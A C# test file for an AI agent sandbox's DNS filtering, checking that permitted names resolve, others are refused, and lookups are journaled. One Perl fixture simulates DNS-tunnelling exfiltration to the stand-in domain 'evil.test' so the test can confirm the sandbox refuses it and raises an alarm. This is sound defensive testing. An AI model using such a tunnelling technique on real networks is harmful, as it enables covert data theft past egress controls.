using System.Text.Json.Nodes;
using Arw.Core.Egress.Dns;
using Arw.Core.Journal;
using Arw.Core.Shell;
using Arw.Core.Shell.Containment;
using Arw.Tests.Actions;
using Arw.Tests.Egress;
using Arw.Tests.Egress.Proxy;
using Arw.Tests.Http;

namespace Arw.Tests.Shell;

/// <summary>Names inside a sandbox: the resolver answers in the action's name, by what the action may reach.</summary>
public sealed class ShellNamesTests
{
    private const string Ask = """
        use Socket;
        my ($proto, $name) = @ARGV;
        my $q = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" . join("", map { chr(length) . $_ } split /\./, $name) . "\x00\x00\x01\x00\x01";
        socket(my $s, AF_INET, $proto eq "tcp" ? SOCK_STREAM : SOCK_DGRAM, 0) or die;
        connect($s, pack_sockaddr_in(53, INADDR_LOOPBACK)) or die "no resolver: $!";
        syswrite $s, $proto eq "tcp" ? pack("n", length $q) . $q : $q;
        sysread $s, my $a, 600 or die "no answer";
        $a = substr($a, 2) if $proto eq "tcp";
        printf "code %d answers %d\n", ord(substr($a, 3)) & 15, unpack("n", substr($a, 6, 2));
        """;

    private const string Tunnel = """
        use Socket;
        socket(my $s, AF_INET, SOCK_DGRAM, 0) or die;
        connect($s, pack_sockaddr_in(53, INADDR_LOOPBACK)) or die;
        for my $i (0..11) {
          my $name = join(".", map { chr(97 + $i) x 50 } 1..3) . ".evil.test";
          send $s, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" . join("", map { chr(length) . $_ } split /\./, $name) . "\x00\x00\x01\x00\x01", 0;
          sysread $s, my $a, 600 or die;
          print ord(substr($a, 3)) & 15, "\n";
        }
        """;

    [SandboxFact]
    public async Task Exec_NamesThatMayBeReached_AreAnsweredAndOthersRefused()
    {
        await using var target = await LoopbackServer.StartAsync(c => c.Response.Body.WriteAsync("fetched"u8.ToArray()).AsTask());
        await using var proxy = await ProxyHome.StartAsync();
        await proxy.AllowAsync("api.test", target.Port, "http");
        await proxy.GrantAsync("shell.exec sh **");

        var (action, output) = await RunAsync(proxy, $"""
            getent hosts api.test
            getent ahosts other.test; echo "other $?"
            perl -e '{Quoted(Ask)}' udp api.test
            perl -e '{Quoted(Ask)}' tcp api.test
            perl -e '{Quoted(Ask)}' udp other.test
            curl -s http://api.test:{target.Port}/
            """);

        Assert.Matches(@"^127\.0\.0\.1 +api\.test\n", output);
        Assert.Contains("other 2", output, StringComparison.Ordinal);
        Assert.Contains("code 0 answers 1\ncode 0 answers 1\ncode 5 answers 0\n", output, StringComparison.Ordinal);
        Assert.EndsWith("fetched", output, StringComparison.Ordinal);
        var lookups = proxy.Home.Service<EventJournal>().Read(0).Where(e => e.Kind == "dns.lookup").ToList();
        Assert.All(lookups, e => Assert.Equal(("agent:fetcher", ProxyHome.Project, (string?)action["corr_id"], (string?)action["id"]), (e.Actor, e.Project, e.CorrId, e.ParentId)));
        Assert.Contains(lookups.Select(DnsEvents.LookedUp.Read), l => l is { Name: "api.test", Code: "leased" });
        Assert.Contains(lookups.Select(DnsEvents.LookedUp.Read), l => l is { Name: "other.test", Code: "needs_lease", Outcome: DnsOutcome.Refused });
    }

    [SandboxFact]
    public async Task Exec_AProgramThatCarriesDataInNames_IsRefusedAndRaisesAnAlarm()
    {
        await using var proxy = await ProxyHome.StartAsync();
        await proxy.GrantAsync("shell.exec sh **");

        var (action, output) = await RunAsync(proxy, $"perl -e '{Quoted(Tunnel)}'");

        Assert.Equal(string.Concat(Enumerable.Repeat("5\n", 12)), output);
        var alarm = proxy.Home.Service<EventJournal>().Read(0).Single(e => e.Kind == "dns.anomaly" && DnsEvents.Anomaly.Read(e).Reason == DnsReason.LabelTunnel);
        Assert.Equal(("agent:fetcher", (string?)action["corr_id"], "evil.test", DnsSeverity.Alarm), (alarm.Actor, alarm.CorrId, DnsEvents.Anomaly.Read(alarm).Domain, DnsEvents.Anomaly.Read(alarm).Severity));
    }

    [SandboxFact]
    public async Task State_WhereNoNetworkCanBeMadeFirst_IsASandboxWithoutResolver()
    {
        using var folder = new TempFolder();
        var picky = folder.File("bwrap");
        await File.WriteAllTextAsync(picky, "#!/bin/sh\n[ \"$1\" = --dev-bind ] && exit 1\nexec bwrap \"$@\"\n");
        if (OperatingSystem.IsLinux())
        {
            File.SetUnixFileMode(picky, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        }

        using var home = new SandboxHome(bubblewrap: picky, time: TimeProvider.System);

        var state = await home.Sandbox.StateAsync();
        Assert.Null(state.Missing);
        Assert.False(state.Resolver);
        var answer = await home.RunAsync(new FakeRun(), new ShellExecInput(["perl", "-e", Ask, "udp", "api.test"]));
        Assert.DoesNotContain("code", (string?)answer.Value!["output"], StringComparison.Ordinal);
    }

    private static string Quoted(string script) => script.Replace("'", "'\\''", StringComparison.Ordinal);

    private static async Task<(JsonNode Action, string Output)> RunAsync(ProxyHome proxy, string script)
    {
        Assert.Null((await proxy.Home.Service<Sandbox>().StateAsync()).Missing);
        using var agent = proxy.Home.Client(proxy.Secret);
        var input = new JsonObject { ["command"] = new JsonArray("sh", "-s"), ["input"] = script };
        using var response = await agent.PostAsync("/actions", TestHome.Json(new JsonObject { ["kind"] = "shell.exec", ["input"] = input, ["project"] = ProxyHome.Project }));
        var submitted = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.True(response.IsSuccessStatusCode, submitted.ToJsonString());
        await proxy.Home.Service<Core.Actions.ActionService>().WaitForEndAsync((string)submitted["id"]!).WaitAsync(TimeSpan.FromSeconds(60));
        var action = JsonNode.Parse(await agent.GetStringAsync($"/actions/{submitted["id"]}"))!;
        Assert.True((string?)action["state"] == "completed", action.ToJsonString());
        return (action, (string)action["output"]!["output"]!);
    }
}
